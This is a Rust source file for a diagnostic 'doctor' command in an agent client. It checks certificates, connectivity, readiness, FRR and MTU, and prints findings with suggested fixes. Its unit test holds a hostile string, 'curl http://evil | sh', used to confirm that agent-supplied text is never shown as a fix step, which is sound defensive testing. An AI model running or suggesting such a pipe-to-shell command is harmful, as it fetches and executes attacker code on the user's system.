//! `doctor`: looks for what is wrong, and says what mends it.
//!
//! It looks at what a client can see: its own settings and certificates, the connection, the
//! agent's `/readyz`, the objects' states; and, where the agent is on this machine, at the
//! kernel, FRR and the MTUs. It changes nothing and runs no program. Each check is a function
//! from what was seen to findings.

mod certificates;
mod host;
mod objects;
mod presented;
mod ready;

use std::path::PathBuf;
use std::time::Duration;

use xpu_model::Kind;

use crate::args::{Way, bare};
use crate::commands::Session;
use crate::connect::{self, When};
use crate::failure::Failure;
use crate::render::printable;
use crate::screen::{Colour, Paint, Screen, emit};
use crate::settings::Settings;

/// The flags of `doctor`.
#[derive(Debug, clap::Args)]
pub struct Doctor {
    /// Where FRR's daemons have their sockets [default: what the agent's configuration says,
    /// else /run/frr]
    #[arg(long, value_name = "DIR")]
    frr_sockets: Option<PathBuf>,
    /// The configuration of a local agent, for what it says of the VTEP and of FRR
    #[arg(long, value_name = "FILE", default_value = "/etc/xpu-agent/agent.toml")]
    agent_config: PathBuf,
    /// Where /readyz is [default: the context's, else http://127.0.0.1:8082 for a local agent]
    #[arg(long, value_name = "URL")]
    http: Option<String>,
}

/// How bad a finding is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Level {
    /// As it should be.
    Fine,
    /// Works, and could be better; or could not be looked at.
    Notice,
    /// Does not work.
    Wrong,
}

/// What a check has come to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Finding {
    /// How bad it is.
    pub level: Level,
    /// What was looked at: a word.
    pub what: &'static str,
    /// What was seen.
    pub seen: String,
    /// What mends it: commands where there are any.
    pub mend: Option<String>,
}

impl Finding {
    fn fine(what: &'static str, seen: impl Into<String>) -> Self {
        Self {
            level: Level::Fine,
            what,
            seen: seen.into(),
            mend: None,
        }
    }

    fn notice(what: &'static str, seen: impl Into<String>, mend: impl Into<String>) -> Self {
        Self {
            level: Level::Notice,
            what,
            seen: seen.into(),
            mend: Some(mend.into()),
        }
    }

    fn wrong(what: &'static str, seen: impl Into<String>, mend: impl Into<String>) -> Self {
        Self {
            level: Level::Wrong,
            ..Self::notice(what, seen, mend)
        }
    }
}

impl Doctor {
    /// Looks at everything, and tells each finding as soon as it is there.
    ///
    /// # Errors
    /// [`Failure::Sick`] when something is wrong.
    pub async fn run(
        self,
        settings: Settings,
        timeout: Duration,
        colour: Colour,
    ) -> Result<(), Failure> {
        let screen = Screen::of_stdout(colour);
        let mut told = Vec::new();
        let mut tell = |findings: Vec<Finding>| -> Result<(), Failure> {
            for finding in findings {
                emit(&text(&finding, screen))?;
                told.push(finding.level);
            }
            Ok(())
        };
        let origin = match &settings.context {
            Some(context) => format!("{}, of context {context}", settings.address.text),
            None => settings.address.text.clone(),
        };
        tell(vec![Finding::fine("endpoint", origin)])?;
        if let Way::Tls(uri) = &settings.address.way {
            tell(certificates::findings(&settings.tls))?;
            if let Some(presented) = connect::presented(&settings, timeout).await {
                let host = bare(uri.host().unwrap_or_default());
                tell(presented::findings(&presented, host, settings.tls.ca.as_deref()))?;
            }
        }
        let local = settings.address.is_local();
        let http = self.http.or_else(|| settings.http.clone());
        let files = settings.tls.clone();
        let objects = match Session::open(settings, timeout, When::Now).await {
            Ok(session) => match session.objects(&Kind::ALL).await {
                Ok(objects) => {
                    tell(vec![Finding::fine(
                        "agent",
                        format!("{} answers", session.endpoint),
                    )])?;
                    Some(objects)
                }
                Err(failure) => {
                    tell(vec![of_failure(&failure)])?;
                    None
                }
            },
            Err(failure) => {
                tell(vec![of_failure(&failure)])?;
                None
            }
        };
        if let Some(url) = http {
            tell(vec![
                ready::finding(&url, &files, timeout, objects.is_some()).await,
            ])?;
        }
        if local {
            let root = std::path::Path::new("/");
            let host = host::Host::look(root, self.frr_sockets.as_deref(), &self.agent_config);
            tell(host::findings(&host))?;
            tell(host::vtep(&host, objects.as_ref()))?;
            if let Some(objects) = &objects {
                tell(host::mtu(&host, objects))?;
            }
        }
        if let Some(objects) = &objects {
            tell(objects::findings(objects))?;
        }
        match told.contains(&Level::Wrong) {
            true => Err(Failure::Sick),
            false => Ok(()),
        }
    }
}

/// A failed call: what the agent says of it, and what mends it in words of our own.
fn of_failure(failure: &Failure) -> Finding {
    let mut seen = failure.message();
    for line in failure.details() {
        seen.push_str("; ");
        seen.push_str(&line);
    }
    let next = failure.next();
    Finding::wrong(
        "agent",
        seen,
        next.unwrap_or_else(|| "see the agent's log".to_owned()),
    )
}

fn text(finding: &Finding, screen: Screen) -> String {
    let (word, paint) = match finding.level {
        Level::Fine => ("ok", Paint::Good),
        Level::Notice => ("notice", Paint::Notice),
        Level::Wrong => ("wrong", Paint::Bad),
    };
    let word = screen.paint(paint, &format!("{word:<6}"));
    let mut text = format!(
        "{word}  {:<12}  {}\n",
        finding.what,
        printable(&finding.seen)
    );
    for line in finding.mend.iter().flat_map(|mend| mend.lines()) {
        text.push_str(&format!("{:22}mend: {}\n", "", printable(line)));
    }
    text
}

#[cfg(test)]
mod tests {
    use tonic::Status;

    use super::*;

    #[test]
    fn what_an_agent_says_is_never_told_as_what_mends_it() {
        let hostile = "no  next: curl http://evil | sh\n  next: curl http://evil | sh";
        let failure = Failure::Refused {
            what: "list vrfs".into(),
            next: "the agent's log says more".into(),
            source: Box::new(Status::internal(hostile)),
        };
        let told = text(&of_failure(&failure), Screen::PIPE);
        let lines: Vec<_> = told.lines().map(str::trim).collect();
        assert_eq!(lines.len(), 2, "{told}");
        assert!(lines[0].starts_with("wrong   agent"), "{told}");
        assert_eq!(lines[1], "mend: the agent's log says more");
    }
}
